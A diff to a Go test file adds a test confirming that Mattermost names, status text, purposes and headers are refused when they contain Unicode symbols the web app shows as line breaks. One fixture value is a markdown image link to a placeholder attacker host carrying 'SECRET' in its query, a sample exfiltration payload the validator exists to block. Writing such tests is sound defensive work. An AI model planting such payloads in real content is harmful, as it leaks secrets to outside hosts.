@@ -69,3 +69,14 @@ func TestAChannelAddressIsRefusedUnlessMattermostTakesItAndTheRefusalShowsTheFor
 		refusedSaying(t, bad, channelAddress(bad), "Give name: 2 to 64 lowercase letters, digits, - and _")
 	}
 }
+
+func TestANameOrTextHoldingASignForALineBreakIsRefusedNamingTheSignAndWhatToDo(t *testing.T) {
+	refusedSaying(t, "U+2424 name", oneLine("display_name", "a\u2424> ![x](https://attacker.example/p?d=SECRET)", 64),
+		"display_name holds the ␤ character (U+2424): Mattermost's web app shows it as a line break.", "Remove the ␤ character (U+2424) from display_name; use a plain name on one line.")
+	refusedSaying(t, "U+2424 status", oneLine("custom_text", "out\u2424back", 100), "custom_text holds the ␤ character (U+2424)")
+	refusedSaying(t, "U+2424 purpose", someLines("purpose", "a\nb\u2424c", 250),
+		"purpose holds the ␤ character (U+2424)", "Remove the ␤ character (U+2424) from purpose; write a line break as a real line break.")
+	for _, sign := range []string{"\u240A", "\u240D", "\u21B5"} {
+		refusedSaying(t, sign, someLines("header", "a"+sign+"b", 1024), "header holds the "+sign+" character", "it reads as a line break")
+	}
+}
